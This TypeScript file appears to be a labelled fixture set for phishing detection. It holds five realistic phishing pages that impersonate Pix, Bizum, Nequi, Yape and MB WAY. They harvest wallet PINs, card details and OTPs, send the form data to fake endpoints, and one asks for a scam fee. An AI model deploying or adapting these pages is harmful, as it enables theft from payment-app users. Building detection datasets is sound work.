import { htmlRoute, type Entry } from '../entry.js';
import { doc, exfil, jsonRoute, jsRoute, okRoute, pngRoute } from '../parts/zd-kit.js';

/**
 * Instant-payment and wallet kits: fake Pix refunds, Bizum "devoluciones", held SPEI transfers, Nequi,
 * Yape, MB Way and Mercado Pago account pages that take the wallet PIN, OTP or card.
 */

export const entries: Entry[] = [
  {
    id: 'zd-wallet-pix-estorno',
    label: 'phishing',
    kind: 'wallet-kit',
    url: 'https://estorno-pix.central-bcb.com/solicitar',
    body: doc({
      lang: 'pt-BR',
      title: 'Pix - Solicitação de Estorno | Banco Central',
      css: `body{margin:0;font-family:Arial;background:#eef6f5}.h{background:#32bcad;color:#fff;padding:16px 30px;font-size:22px}.c{max-width:480px;margin:30px auto;background:#fff;padding:28px;border-radius:8px}
input,select{width:100%;padding:11px;margin:6px 0 14px;border:1px solid #bbb;border-radius:4px}button{width:100%;padding:13px;background:#32bcad;color:#fff;border:0;border-radius:4px;font-weight:bold}.v{font-size:28px;color:#0a7a6f;font-weight:bold}`,
      body: `<div class="h">◆ pix &nbsp;<small>Mecanismo Especial de Devolução (MED)</small></div>
<div class="c"><p>Foi identificado um valor retido em seu nome referente a transações Pix contestadas:</p><div class="v">R$ 1.247,83</div>
<p>Para receber o estorno em até 30 minutos, confirme os dados da conta de destino.</p>
<form id="px"><label>Nome completo</label><input name="nome"><label>CPF</label><input name="cpf"><label>Banco</label><select name="banco"><option>Nubank</option><option>Itaú</option><option>Bradesco</option><option>Caixa</option><option>Banco do Brasil</option><option>Santander</option><option>Inter</option></select>
<label>Agência e conta</label><input name="conta"><label>Senha do aplicativo (para autorizar o crédito)</label><input name="senha" type="password" maxlength="8"><button>Receber estorno</button><p id="wait" style="display:none">Validando com o Banco Central…</p></form>
<p style="font-size:11px;color:#666">Banco Central do Brasil · SBS Quadra 3 Bloco B · Brasília-DF</p></div>
${exfil({ form: '#px', endpoint: '/api/estorno', next: '/taxa' })}`,
    }),
    routes: {
      'estorno-pix.central-bcb.com/api/estorno': okRoute(),
      'estorno-pix.central-bcb.com/taxa': htmlRoute(doc({ lang: 'pt-BR', title: 'Taxa de liberação', body: `<div style="max-width:480px;margin:30px auto;font-family:Arial"><h3>Taxa de liberação do estorno</h3><p>Para liberar o valor é necessário o pagamento da tarifa de processamento de <b>R$ 37,90</b> via Pix.</p><p>Chave Pix (aleatória): <code>4f1c2a9e-7b3d-4e11-9a0c-2d8e5b7c6f10</code></p><p>Beneficiário: MED PAGAMENTOS LTDA</p><button onclick="navigator.clipboard.writeText('4f1c2a9e-7b3d-4e11-9a0c-2d8e5b7c6f10')">Copiar chave</button></div>` })),
    },
  },
  {
    id: 'zd-wallet-bizum-devolucion',
    label: 'phishing',
    kind: 'wallet-kit',
    url: 'https://bizum-devoluciones.es-pago.info/recibir/?id=88412',
    body: doc({
      lang: 'es',
      title: 'Bizum · Devolución pendiente',
      css: `body{margin:0;font-family:'Nunito',Arial;background:#05c3dd}.c{background:#fff;max-width:400px;margin:50px auto;border-radius:16px;padding:28px;text-align:center}.a{font-size:34px;font-weight:800;color:#05c3dd}
input,select{width:100%;padding:12px;margin:6px 0 12px;border:1px solid #ccc;border-radius:8px;text-align:left}button{width:100%;padding:14px;background:#05c3dd;color:#fff;border:0;border-radius:24px;font-weight:bold}`,
      body: `<div class="c"><h2>bizum</h2><p>Tienes una devolución pendiente de recibir</p><div class="a">150,00 €</div><p style="font-size:13px">Concepto: Devolución Hacienda IRPF / Ref. 88412</p>
<form id="bz" style="text-align:left"><label>Tu banco</label><select name="banco"><option>Santander</option><option>BBVA</option><option>CaixaBank</option><option>Sabadell</option><option>Bankinter</option><option>ING</option><option>Unicaja</option><option>Kutxabank</option></select>
<label>Titular</label><input name="titular"><label>Número de tarjeta asociada</label><input name="tarjeta" maxlength="19"><label>Caducidad</label><input name="cad" placeholder="MM/AA"><label>CVV</label><input name="cvv" maxlength="3">
<button>Aceptar devolución</button><p id="wait" style="display:none">Conectando con tu banco…</p></form></div>
${exfil({ form: '#bz', endpoint: 'https://bizum-devoluciones.es-pago.info/recibir/ok.php', next: 'https://bizum-devoluciones.es-pago.info/recibir/sms.html', mode: 'form' })}`,
    }),
    routes: {
      'bizum-devoluciones.es-pago.info/recibir/ok.php': okRoute(),
      'bizum-devoluciones.es-pago.info/recibir/sms.html': htmlRoute(doc({ lang: 'es', title: 'Bizum · Confirmación', body: `<div style="max-width:400px;margin:50px auto;font-family:Arial;text-align:center"><h2>Confirma con tu banco</h2><p>Introduce el código que has recibido por SMS para aceptar la devolución.</p><input maxlength="8" style="padding:12px;width:100%"><button style="margin-top:10px;padding:12px;width:100%;background:#05c3dd;color:#fff;border:0">Confirmar</button></div>` })),
    },
  },
  {
    id: 'zd-wallet-nequi-reclamo',
    label: 'phishing',
    kind: 'wallet-kit',
    url: 'https://nequi-co.propulsor-credito.com/',
    body: doc({
      lang: 'es-CO',
      title: 'Nequi - Préstamo Propulsor',
      css: `body{margin:0;font-family:'Manrope',Arial;background:#200020;color:#fff}.c{max-width:380px;margin:40px auto;background:#fff;color:#200020;border-radius:16px;padding:26px}.p{color:#da0081;font-weight:800;font-size:28px}
input{width:100%;padding:12px;margin:6px 0 14px;border:1px solid #ccc;border-radius:8px}button{width:100%;padding:14px;background:#da0081;color:#fff;border:0;border-radius:8px;font-weight:bold}.pin{display:flex;gap:8px}.pin input{text-align:center;font-size:20px}`,
      body: `<div style="padding:20px 30px;font-size:24px;font-weight:800">Nequi</div>
<div class="c"><p>¡Tienes un <b>Préstamo Propulsor</b> preaprobado!</p><div class="p">$ 2.500.000</div><p style="font-size:13px">Sin codeudor, desembolso inmediato a tu Nequi.</p>
<form id="nq"><label>Número de celular</label><input name="cel" placeholder="3XX XXX XXXX"><label>Clave de 4 dígitos</label><div class="pin"><input name="c1" maxlength="1"><input name="c2" maxlength="1"><input name="c3" maxlength="1"><input name="c4" maxlength="1"></div>
<button>Solicitar</button><p id="wait" style="display:none">Estamos revisando tu solicitud…</p></form></div>
<script>document.querySelectorAll('.pin input').forEach(function(i,n,a){i.addEventListener('input',function(){if(i.value&&a[n+1])a[n+1].focus()})});</script>
${exfil({ form: '#nq', endpoint: '/api/v1/lead', next: '/dinamica', extra: "d.c=[d.c1,d.c2,d.c3,d.c4].join('');" })}`,
    }),
    routes: {
      'nequi-co.propulsor-credito.com/api/v1/lead': okRoute(),
      'nequi-co.propulsor-credito.com/dinamica': htmlRoute(doc({ lang: 'es-CO', title: 'Nequi', body: `<div style="max-width:380px;margin:40px auto;font-family:Arial"><h3>Clave dinámica</h3><p>Ingresa la clave dinámica que ves en tu app Nequi para aprobar el desembolso.</p><input maxlength="6" style="width:100%;padding:12px"><button style="width:100%;margin-top:10px;padding:12px;background:#da0081;color:#fff;border:0">Continuar</button></div>` })),
    },
  },
  {
    id: 'zd-wallet-yape-bono',
    label: 'phishing',
    kind: 'wallet-kit',
    url: 'https://yape-bono.pe-beneficio.online/reclamar',
    body: doc({
      lang: 'es-PE',
      title: 'Yape | Bono Yapero 2025',
      css: `body{margin:0;font-family:Arial;background:#742284;color:#fff;text-align:center}.c{background:#fff;color:#333;max-width:360px;margin:30px auto;border-radius:20px;padding:26px}.b{font-size:38px;color:#742284;font-weight:bold}
input{width:100%;padding:12px;margin:6px 0 12px;border:1px solid #ccc;border-radius:10px}button{width:100%;padding:14px;background:#00c2a8;color:#fff;border:0;border-radius:24px;font-weight:bold}.t{font-size:12px;color:#999}`,
      body: `<h1 style="margin-top:30px">yape</h1><div class="c"><p>🎉 ¡Felicidades! Fuiste seleccionado para el</p><div class="b">S/ 350</div><p>Bono Yapero por aniversario</p><p class="t">Quedan <b id="cnt">27</b> bonos disponibles</p>
<form id="yp"><input name="celular" placeholder="Celular afiliado a Yape" maxlength="9"><input name="dni" placeholder="DNI" maxlength="8"><input name="clave" placeholder="Clave Yape (6 dígitos)" type="password" maxlength="6">
<input name="tarjeta" placeholder="Últimos 6 dígitos de tu tarjeta BCP" maxlength="6"><button>Reclamar bono</button><p id="wait" style="display:none">Validando…</p></form>
<p class="t">Promoción válida hasta agagotar stock. Yape es una marca del BCP.</p></div>
<script>var n=27;setInterval(function(){if(n>3){n--;document.getElementById('cnt').textContent=n}},4000)</script>
${exfil({ form: '#yp', endpoint: 'https://yape-bono.pe-beneficio.online/reclamar/save', next: 'https://yape-bono.pe-beneficio.online/reclamar/otp' })}`,
    }),
    routes: {
      'yape-bono.pe-beneficio.online/reclamar/save': okRoute(),
      'yape-bono.pe-beneficio.online/reclamar/otp': htmlRoute(doc({ lang: 'es-PE', title: 'Yape', body: `<div style="text-align:center;font-family:Arial;margin-top:40px"><h3>Ingresa el código de verificación</h3><p>Te enviamos un SMS al celular registrado.</p><input maxlength="6" style="padding:12px"><br><button style="margin-top:10px;padding:12px 40px;background:#00c2a8;color:#fff;border:0;border-radius:20px">Validar</button></div>` })),
    },
  },
  {
    id: 'zd-wallet-mbway-associar',
    label: 'phishing',
    kind: 'wallet-kit',
    url: 'https://mbway-pt.ativacao-cartao.com/associar',
    body: doc({
      lang: 'pt-PT',
      title: 'MB WAY - Associar cartão',
      css: `body{margin:0;font-family:Arial;background:#f4f4f4}.h{background:#d60510;color:#fff;padding:16px 30px;font-size:22px;font-weight:bold}.c{max-width:420px;margin:30px auto;background:#fff;padding:26px;border-radius:8px}
input{width:100%;padding:11px;margin:6px 0 12px;border:1px solid #bbb;border-radius:4px}button{width:100%;padding:13px;background:#d60510;color:#fff;border:0;border-radius:4px}`,
      body: `<div class="h">MB WAY</div><div class="c"><h3>Receber pagamento OLX</h3><p>O comprador <b>Ricardo M.</b> efetuou o pagamento de <b>185,00 €</b> pelo seu anúncio. Para receber, associe o seu cartão ao MB WAY.</p>
<form id="mb"><label>Número de telemóvel</label><input name="tlm" value="+351 "><label>Número do cartão</label><input name="cartao" maxlength="19"><label>Validade</label><input name="val" placeholder="MM/AA"><label>CVV</label><input name="cvv" maxlength="3">
<label>PIN MB WAY (6 dígitos)</label><input name="pin" type="password" maxlength="6"><button>Receber 185,00 €</button><p id="wait" style="display:none">A processar…</p></form>
<p style="font-size:11px;color:#888">SIBS Forward Payment Solutions, S.A.</p></div>
${exfil({ form: '#mb', endpoint: '/associar/r.php', next: '/associar/codigo', mode: 'form' })}`,
    }),
    routes: {
      'mbway-pt.ativacao-cartao.com/associar/r.php': okRoute(),
      'mbway-pt.ativacao-cartao.com/associar/codigo': htmlRoute(doc({ lang: 'pt-PT', title: 'MB WAY', body: `<div style="max-width:420px;margin:30px auto;font-family:Arial"><h3>Código de confirmação</h3><p>Introduza o código enviado por SMS pelo seu banco.</p><input maxlength="6" style="width:100%;padding:12px"><button style="margin-top:10px;width:100%;padding:12px;background:#d60510;color:#fff;border:0">Confirmar</button></div>` })),
    },
  },
];
